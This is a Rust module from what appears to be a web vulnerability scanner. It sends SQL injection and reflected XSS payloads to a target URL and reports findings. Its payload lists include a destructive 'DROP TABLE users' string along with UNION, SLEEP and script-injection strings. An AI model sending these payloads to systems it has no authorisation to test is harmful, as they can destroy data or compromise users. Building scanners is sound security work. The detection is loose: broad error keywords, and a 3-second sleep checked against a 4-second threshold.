//! SQL injection and reflected XSS probe
//!
//! Payloads go into a `test` query parameter (GET) and a `searchFor` form
//! field (POST). SQL injection is flagged on database error strings in the
//! body or on a response slower than `TIME_BASED_THRESHOLD`; XSS is flagged
//! when the payload comes back verbatim (case-insensitive) in the body.

use crate::crawler::send_with_retry;
use crate::scanner::{Finding, ProbeContext, Severity};
use futures::stream::{self, StreamExt};
use std::time::{Duration, Instant};

/// Query parameter carrying GET payloads
const QUERY_PARAM: &str = "test";

/// Form field carrying POST payloads
const FORM_FIELD: &str = "searchFor";

/// Responses slower than this are treated as time-based injection
const TIME_BASED_THRESHOLD: Duration = Duration::from_secs(4);

pub const SQLI_PAYLOADS: &[&str] = &[
    "' OR 1=1--",
    "\" OR \"1\"=\"1",
    "'; DROP TABLE users--",
    "' OR 'a'='a",
    "' OR 1=1#",
    "' OR 1=1/*",
    "' OR '1'='1' -- ",
    "' OR EXISTS(SELECT * FROM users)--",
    "' AND SLEEP(3)--",
    "' OR (SELECT COUNT(*) FROM users) > 0--",
    "' OR 1=1 LIMIT 1--",
    "' AND 1=0 UNION SELECT NULL--",
];

pub const XSS_PAYLOADS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "<body onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "<iframe src=javascript:alert('XSS')>",
    "<input type=image src=x onerror=alert('XSS')>",
    "<object data=javascript:alert('XSS')>",
    "<details open ontoggle=alert('XSS')>",
    "<marquee onstart=alert('XSS')>",
];

/// Lower-case fragments of database error messages
pub const SQL_ERRORS: &[&str] = &[
    "sql syntax",
    "mysql",
    "sqlstate",
    "syntax error",
    "unclosed quotation",
    "warning",
    "database error",
    "native client",
    "pdoexception",
    "odbc",
];

#[derive(Debug, Clone, Copy)]
enum Check {
    SqliGet(&'static str),
    XssGet(&'static str),
    XssPost(&'static str),
}

/// Runs every injection payload against `target_url`
///
/// Up to `ctx.concurrency()` payload requests are in flight at once. Failed
/// requests are logged at debug level and produce no finding.
pub async fn scan_injection(ctx: &ProbeContext, target_url: &str) -> Vec<Finding> {
    let checks = SQLI_PAYLOADS
        .iter()
        .map(|&p| Check::SqliGet(p))
        .chain(XSS_PAYLOADS.iter().map(|&p| Check::XssGet(p)))
        .chain(XSS_PAYLOADS.iter().map(|&p| Check::XssPost(p)));

    let results: Vec<Option<Finding>> = stream::iter(checks)
        .map(|check| run_check(ctx, target_url, check))
        .buffer_unordered(ctx.concurrency())
        .collect()
        .await;

    let findings: Vec<Finding> = results.into_iter().flatten().collect();
    for finding in &findings {
        tracing::info!("{} on {}", finding.kind, finding.url);
    }
    findings
}

async fn run_check(ctx: &ProbeContext, target_url: &str, check: Check) -> Option<Finding> {
    let request = match check {
        Check::SqliGet(payload) | Check::XssGet(payload) => ctx
            .client()
            .get(target_url)
            .query(&[(QUERY_PARAM, payload)]),
        Check::XssPost(payload) => ctx.client().post(target_url).form(&[(FORM_FIELD, payload)]),
    };

    let request = match request.build() {
        Ok(request) => request,
        Err(e) => {
            tracing::debug!("Cannot build injection request for {}: {}", target_url, e);
            return None;
        }
    };
    let tested_url = request.url().to_string();

    let started = Instant::now();
    let body = match send_with_retry(ctx.client(), request).await {
        Ok(response) => response.text().await,
        Err(e) => Err(e),
    };
    let elapsed = started.elapsed();

    let body = match body {
        Ok(body) => body.to_lowercase(),
        Err(e) => {
            tracing::debug!("Injection request failed for {}: {}", tested_url, e);
            return None;
        }
    };

    evaluate(check, &tested_url, target_url, &body, elapsed)
}

/// Decides whether one lower-cased response body indicates a vulnerability
fn evaluate(
    check: Check,
    tested_url: &str,
    target_url: &str,
    body: &str,
    elapsed: Duration,
) -> Option<Finding> {
    match check {
        Check::SqliGet(payload) => {
            let kind = if SQL_ERRORS.iter().any(|err| body.contains(err)) {
                "SQL Injection (Error-Based)"
            } else if elapsed > TIME_BASED_THRESHOLD {
                "SQL Injection (Time-Based)"
            } else {
                return None;
            };
            Some(Finding::new(kind, tested_url, Severity::High).with_payload(payload))
        }
        Check::XssGet(payload) => body
            .contains(&payload.to_lowercase())
            .then(|| {
                Finding::new("Reflected XSS (GET)", tested_url, Severity::High)
                    .with_payload(payload)
            }),
        Check::XssPost(payload) => body.contains(&payload.to_lowercase()).then(|| {
            Finding::new("Reflected XSS (POST)", target_url, Severity::High)
                .with_payload(payload)
                .with_location(format!("POST parameter: {}", FORM_FIELD))
        }),
    }
}
